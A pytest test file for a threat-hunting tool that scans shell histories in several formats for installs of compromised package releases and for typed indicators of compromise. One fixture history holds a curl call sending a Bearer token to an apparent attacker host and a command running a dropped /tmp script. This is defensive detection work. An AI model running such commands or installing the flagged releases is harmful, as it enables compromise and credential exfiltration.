"""Histories of every format: installs of affected releases, facts that were typed, and searches for them."""

from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from customhouse.hunt.hosts.histories import hunt_histories
from customhouse.hunt.hosts.history_files import HistoryFile, history_lines
from customhouse.hunt.hosts.tree import Tree
from customhouse.hunt.notes import Notebook

INSIDE = int(datetime(2026, 3, 31, 1, 0, tzinfo=UTC).timestamp())
OUTSIDE = int(datetime(2026, 3, 29, 1, 0, tzinfo=UTC).timestamp())


@pytest.fixture
def found(image, plant, asked, one_system):
    plant("etc/hostname", "host\n")
    plant("usr/x")

    def hunt(name, text):
        plant(f"home/dev/{name}", text)
        one = one_system(image)
        hunt_histories(one.system, asked, one.notes)
        return one.notes

    return hunt


@pytest.mark.parametrize(
    ("name", "text", "line", "timed"),
    [
        (".bash_history", "ls\nnpm install axios@1.14.1\n", 2, False),
        (".bash_history", f"#{INSIDE}\ncd /x\n#{INSIDE}\nsudo npm i -g axios@1.14.1 --save\n", 4, True),
        (".zsh_history", f": {INSIDE}:0;ls\n: {INSIDE}:3;yarn add \\\\\n axios@1.14.1\n", 2, True),
        (".zsh_history", "pnpm add axios@1.14.1\n", 1, False),
        (
            ".local/share/fish/fish_history",
            f"- cmd: cd x\n  when: 1\n- cmd: cd y\\nbun add axios@1.14.1\n  when: {INSIDE}\n",
            3,
            True,
        ),
        (
            ".local/share/powershell/PSReadLine/ConsoleHost_history.txt",
            "cd x\nnpm install ``\n axios@1.14.1\n",
            2,
            False,
        ),
        (".bash_history", "npx axios@1.14.1\n", 1, False),
        (".bash_history", "npm i a@npm:axios@1.14.1\n", 1, False),
        (".bash_history", "cd app && npm install axios@=1.14.1\n", 1, False),
    ],
)
def test_an_affected_release_that_was_typed_is_declared(found, name, text, line, timed):
    (hit,) = found(name, text).hits
    assert (hit.subject, hit.grade, hit.confidence) == ("pkg:npm/axios@1.14.1", "declared", "high")
    assert hit.place.line == line
    assert (hit.when is not None) == timed
    if timed:
        assert hit.when.at == datetime.fromtimestamp(INSIDE, UTC)


@pytest.mark.parametrize(
    "command",
    [
        "pip install litellm==1.82.8",
        "pip3 install 'litellm[proxy]==1.82.8'",
        "uv pip install litellm==1.82.8",
        "python3 -m pip install -U litellm==1.82.8",
        "uv add litellm==1.82.8",
        "poetry add litellm@1.82.8",
    ],
)
def test_of_python_too(found, command):
    (hit,) = found(".bash_history", command + "\n").hits
    assert hit.subject == "pkg:pypi/litellm@1.82.8"


def test_the_newest_is_what_was_there_at_the_time(found):
    (hit,) = found(".bash_history", f"#{INSIDE}\nnpm install axios\n#{OUTSIDE}\nnpm install axios\n").hits
    assert (hit.subject, hit.confidence, hit.place.line) == ("pkg:npm/axios@1.14.1", "medium", 2)
    assert found(".bash_history", "npm install axios\n").hits == ()


@pytest.mark.parametrize(
    "command",
    [
        "npm install axios@1.14.0",
        "npm uninstall axios@1.14.1",
        "npm view axios@1.14.1",
        "pip install litellm==1.82.6",
        "echo hello",
        "npm i @other/axios@1.14.1",
        "pip download axios==1.14.1",
        f"#{INSIDE}\nnpm install axios@1.13.0",
        f"#{INSIDE}\nnpm install axios@next",
    ],
)
def test_what_is_not_affected_does_not_hit(found, command):
    assert found(".bash_history", command + "\n").hits == ()


def test_facts_that_were_typed(found):
    notes = found(
        ".bash_history",
        "curl -H 'Authorization: Bearer abcdefghijkl' http://sfrclak.com:8000/6202033\npython3 /tmp/ld.py\ngrep -r sfrclak.com /var/log\n",
    )
    told = {(hit.subject, hit.place.line): (hit.grade, hit.confidence) for hit in notes.hits}
    assert told == {
        ("sfrclak.com", 1): ("contacted", "medium"),
        ("http://sfrclak.com:8000/6202033", 1): ("contacted", "medium"),
        ("/tmp/ld.py", 2): ("script-ran", "medium"),
        ("sfrclak.com", 3): ("declared", "low"),
    }
    assert all("abcdefghijkl" not in hit.excerpt for hit in notes.hits)
    (looked,) = notes.places
    assert (looked.counts, looked.control) == ((("lines", 3),), True)


def test_a_service_s_name_is_told_only_of_what_manages_services(found):
    text = "systemctl --user enable sysmon\nsysmon -i\n"
    assert [(hit.subject, hit.place.line) for hit in found(".bash_history", text).hits] == [("sysmon.service", 1)]


def test_a_path_of_wildcards_alone_is_no_word(found):
    assert found(".bash_history", "mkdir /tmp/.vscode\n").hits == ()


def test_zsh_s_own_encoding_is_undone(tmp_path):
    (tmp_path / "h").write_bytes(b": 1700000000:0;echo \xc3\x83\xa4\n")
    tree = Tree(str(tmp_path), Notebook())
    (line,) = history_lines(tree, HistoryFile("x", "zsh", "shell", str(tmp_path / "h")))
    assert line.command == "echo \u00c4"


@given(st.sampled_from(["bash", "zsh", "fish", "powershell", "lines"]), st.binary(max_size=400))
def test_no_bytes_make_a_reader_raise(tmp_path_factory, kind, data):
    folder = tmp_path_factory.mktemp("h")
    (folder / "h").write_bytes(data)
    lines = list(history_lines(Tree(str(folder), Notebook()), HistoryFile("x", kind, "shell", str(folder / "h"))))
    assert all(line.command.strip() for line in lines)
